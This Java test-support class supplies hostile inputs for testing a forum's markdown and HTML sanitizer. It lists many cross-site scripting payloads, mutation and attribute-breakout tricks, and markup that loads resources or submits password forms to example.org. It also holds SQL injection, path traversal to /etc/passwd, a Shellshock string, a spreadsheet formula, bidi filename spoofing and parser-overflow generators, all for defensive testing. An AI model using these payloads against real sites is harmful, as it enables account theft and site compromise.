package org.rapporteur.testing;

import java.io.IOException;
import java.io.UncheckedIOException;
import java.util.List;
import tools.jackson.databind.json.JsonMapper;

/// Texts that attack a forum or break careless parsers.
public final class HostileTexts {

  /// One text for each kind of attack in the published advisories on forums: scripts, external
  /// resources, redirects, attribute breakouts, hidden text. `AdvisoriesTests` lists all kinds,
  /// also those without a text.
  public static final List<String> ONE_OF_EACH_CLASS =
      List.of(
          "<script>alert(1)</script>",
          "<ScRiPt src=//example.org/x.js></sCrIpT>",
          "<<script>script>alert(1)<</script>/script>",
          "<img src=x onerror=alert(1)>",
          "![x](javascript:alert(1))",
          "![\" onerror=\"alert(1)](https://example.org/x.png)",
          "<svg><animate onbegin=alert(1) attributeName=x></svg>",
          "<math><mtext><table><mglyph><style><img src onerror=alert(1)>",
          "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
          "<object data='data:text/html;base64,PHNjcmlwdD4='></object>",
          "<details open ontoggle=alert(1)>",
          "<template><script>alert(1)</script></template>",
          "<form action=//example.org><input name=password></form>",
          "<base href=//example.org><a href=/sign-in>sign in</a>",
          "<style>@import '//example.org/x.css'</style>",
          "<meta http-equiv=refresh content='0;url=//example.org'>",
          "[x](javascript:alert(1))",
          "[x](JaVaScRiPt&colon;alert(1))",
          "[x](java\tscript:alert(1))",
          "[x](&#106;avascript:alert(1))",
          "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
          "[x](vbscript:msgbox(1))",
          "[x](//example.org \"' onmouseover='alert(1)\")",
          "[x](https://example.org/\" onmouseover=\"alert(1))",
          "<javascript:alert(1)>",
          "<https://example.org/\"onclick=alert(1)>",
          "[x]: javascript:alert(1)\n\n[x]",
          "`<script>alert(1)</script>`",
          "```<script>\nalert(1)\n```",
          "```\" onclick=\"alert(1)\ncode\n```",
          "&lt;script&gt;alert(1)&lt;/script&gt;",
          "]]><script>alert(1)</script>",
          "--><script>alert(1)</script><!--",
          "<!--><script>alert(1)</script>-->",
          "<a href='https://example.org' target=_blank onclick=alert(1)>x</a>",
          "{{constructor.constructor('alert(1)')()}} ${alert(1)} #{7*7} <%= 7*7 %>",
          "'; DROP TABLE comment; --",
          "\" OR \"\"=\"",
          "../../../../etc/passwd%00.html",
          "() { :; }; echo x",
          "=HYPERLINK(\"https://example.org\")",
          "@everyone <@U1> C0 C999999999 M-9999",
          "\u202Egnp.exe\u202C right \u2066to\u2069 left",
          "Z\u0351\u036B\u0343\u036A\u0302\u036B\u033D\u034F\u0334\u0319\u0324\u031E\u0349\u035A\u032F\u031E\u0320\u034DA\u0337\u0322",
          "\uFEFF\u200B\u200C\u200D\u2060",
          "\uD83D\uDC68\u200D\uD83D\uDC69\u200D\uD83D\uDC67 \uD83C\uDDFA\uD83C\uDDF3",
          "\uFDFD \uFDD0 \uFFFE",
          "\u0627\u0644\u0639\u0631\u0628\u064A\u0629 \u05E2\u05D1\u05E8\u05D9\u05EA 中文",
          "undefined null NaN true 1E400 0x0 -0 nil (null)",
          "CON PRN AUX NUL COM1 LPT1",
          // From later advisories: text that is parsed twice, elements that cover the page, line
          // separators in script strings, quotations, and names.
          "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
          "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
          "<div style=\"position:fixed;inset:0;background:url(//example.org/x)\">x</div>",
          "<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>",
          "<img srcset=\"//example.org/x.png 1x\" loading=eager>",
          "<link rel=stylesheet href=//example.org/x.css>",
          "<a href=\"https://example.org\" ping=\"//example.org/ping\">x</a>",
          "<input autofocus onfocus=alert(1)>",
          "\"><svg/onload=alert(1)>",
          "' autofocus onfocus='alert(1)",
          "[quote=\"<img src=x onerror=alert(1)>, post:1\"]x[/quote]",
          "[x](java\nscript:alert(1))",
          "![x](https://example.org/x.svg)",
          "a\u2028alert(1)\u2029b",
          "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
          "<img src=x onerror=alert(1)>.png",
          "[x]: <https://example.org> \"</a><script>alert(1)</script>\"\n\n[x]");

  private HostileTexts() {}

  /// The Big List of Naughty Strings.
  public static List<String> naughtyStrings() {
    try (var list = HostileTexts.class.getResourceAsStream("/naughty-strings/blns.json")) {
      return List.of(JsonMapper.shared().readValue(list, String[].class));
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
  }

  /// Texts that make careless parsers slow or overflow their stack, each of about the given length.
  public static List<String> deeplyNested(int length) {
    return List.of(
        repeatTo(">", length),
        repeatTo("> ", length),
        repeatTo("- ", length),
        repeatTo("1. ", length),
        repeatTo("[", length),
        repeatTo("![", length) + "]",
        repeatTo("[a](", length),
        repeatTo("*", length),
        repeatTo("*a", length),
        repeatTo("**a *", length),
        repeatTo("_a __", length),
        repeatTo("`", length),
        repeatTo("<", length),
        repeatTo("<!--", length),
        repeatTo("<a href=", length),
        repeatTo("&", length),
        repeatTo("&#", length),
        repeatTo("\\", length),
        repeatTo("[^", length),
        repeatTo("[x][", length) + "]",
        repeatTo("[a]: b\n", length),
        repeatTo("a\n", length),
        repeatTo("#", length),
        repeatTo("~", length),
        repeatTo("|", length),
        repeatTo("\t", length),
        "a" + repeatTo("\u0301", length),
        "[".repeat(length / 4) + "a" + "](b)".repeat(length / 6),
        deepeningLists(length));
  }

  private static String repeatTo(String part, int length) {
    return part.repeat(length / part.length());
  }

  /// Nested lists: each line is one level deeper.
  private static String deepeningLists(int length) {
    var lines = new StringBuilder();
    for (int depth = 0; lines.length() < length * 99 / 100; depth++) {
      lines.append("  ".repeat(depth)).append("- x\n");
    }
    return lines.toString();
  }
}
